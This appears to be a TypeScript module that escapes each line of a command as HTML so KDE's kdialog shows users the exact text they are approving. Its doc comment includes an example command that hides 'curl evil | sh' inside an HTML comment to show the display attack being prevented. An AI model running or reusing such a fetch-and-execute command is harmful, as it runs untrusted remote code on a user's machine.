/**
 * The text of the file kdialog's text window (`--textbox FILE`) reads, so
 * that it shows each line of the question exactly as it is. kdialog adds the
 * file to its window line by line, and Qt reads each line as HTML when it
 * looks like HTML (`Qt::mightBeRichText`: the first `<` opens a known tag,
 * or `&lt;` comes before any `<`), else as plain text: a command such as
 * `ls <b></b><!-- ; curl evil | sh -->` would show as `ls ` (comments
 * dropped, tags eaten, spaces collapsed). So every line is made HTML that
 * reads back as its own text: it opens with a tag Qt knows (`<span>`, which
 * changes nothing drawn), `&`, `<` and `>` are written as entities, and its
 * whitespace is kept (`white-space: pre-wrap`, and each space HTML would
 * collapse written as `&nbsp;`, so the spaces survive even a reader that
 * ignores the style). The person reads the exact command, not a look-alike.
 * Pure.
 *
 * @example
 * ```ts
 * kdialogTextFile("command: ls  <b>x</b>");
 * // '<span style="white-space:pre-wrap">command: ls &nbsp;&lt;b&gt;x&lt;/b&gt;</span>\n'
 * ```
 */

/** What each line opens with: a tag Qt knows (so the line is always HTML) that keeps whitespace. */
export const KDIALOG_LINE_OPEN = '<span style="white-space:pre-wrap">';
/** What each line closes with. */
export const KDIALOG_LINE_CLOSE = "</span>";

/** One line of text as HTML that shows exactly that text. */
function lineHtml(line: string): string {
  let html = "";
  for (let i = 0; i < line.length; i++) {
    const char = line[i]!;
    if (char === "&") html += "&amp;";
    else if (char === "<") html += "&lt;";
    else if (char === ">") html += "&gt;";
    // HTML drops a line's leading spaces and all but the first of a run.
    else if (char === " " && (i === 0 || line[i - 1] === " ")) html += "&nbsp;";
    else html += char;
  }
  return `${KDIALOG_LINE_OPEN}${html}${KDIALOG_LINE_CLOSE}`;
}

/** `text`'s lines, each as HTML that kdialog's text window shows as that line's text. */
export function kdialogTextFile(text: string): string {
  return text.split(/\r\n|[\r\n]/).map(lineHtml).join("\n") + "\n";
}
